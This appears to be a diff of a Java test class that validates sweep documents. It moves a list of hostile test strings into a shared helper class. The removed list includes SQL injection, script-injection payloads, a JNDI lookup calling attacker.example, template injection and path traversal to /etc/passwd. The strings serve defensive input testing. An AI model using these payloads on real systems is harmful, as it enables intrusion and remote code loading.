@@ -67,9 +67,7 @@ class BadSweepDocumentsTest {
   static final String SAME_KIND = "\u0000same kind";
 
   static String kind(JsonNode n) {
-    return n.isNumber()
-        ? "number"
-        : n.isTextual() ? "text" : n.isBoolean() ? "boolean" : "container";
+    return BadValues.kind(n);
   }
 
   static JsonNode base() {
@@ -134,38 +132,6 @@ class BadSweepDocumentsTest {
     }
   }
 
-  static final List<Supplier<JsonNode>> WRONG_TYPES =
-      List.of(
-          () -> F.textNode("x"),
-          () -> F.numberNode(3.5),
-          () -> F.numberNode(-1),
-          () -> F.booleanNode(true),
-          () -> F.arrayNode().add(1),
-          () -> F.objectNode().put("a", 1),
-          () -> F.textNode(""),
-          () -> F.numberNode(new java.math.BigInteger("99999999999999999999999")),
-          () -> F.numberNode(0),
-          () -> F.textNode("NaN"));
-
-  static final List<String> HOSTILE_STRINGS =
-      List.of(
-          "'; DROP TABLE sweeps; --",
-          "<script>alert(1)</script>",
-          "<img src=x onerror=alert(1)>",
-          "${jndi:ldap://attacker.example/a}",
-          "{{ .Values.secret }}",
-          "../../../../etc/passwd",
-          "\u202eevil\u202c",
-          "tab\tand\nnewline",
-          "bell\u0007",
-          "nul\u0000byte",
-          "emoji \uD83D\uDE80",
-          "zero\u200bwidth",
-          "x".repeat(100_000),
-          "%s%s%s%n",
-          "\\u0000",
-          "é".repeat(64));
-
   static List<Case> cases() {
     JsonNode base = base();
     List<Path> leaves = new ArrayList<>();
@@ -177,7 +143,7 @@ class BadSweepDocumentsTest {
     // which must be refused, or of the same kind (another number), which may be valid
     for (Path p : leaves) {
       JsonNode original = leafOf(base, p);
-      for (Supplier<JsonNode> v : WRONG_TYPES) {
+      for (Supplier<JsonNode> v : BadValues.OF_EVERY_KIND) {
         JsonNode value = v.get();
         boolean sameKind = kind(value).equals(kind(original));
         out.add(
@@ -242,7 +208,7 @@ class BadSweepDocumentsTest {
       if (!leaf.isTextual()) {
         continue;
       }
-      for (String s : HOSTILE_STRINGS) {
+      for (String s : BadValues.HOSTILE_STRINGS) {
         out.add(new Case("hostile-string", yaml(set(base, p, F.textNode(s))), p, s));
       }
     }
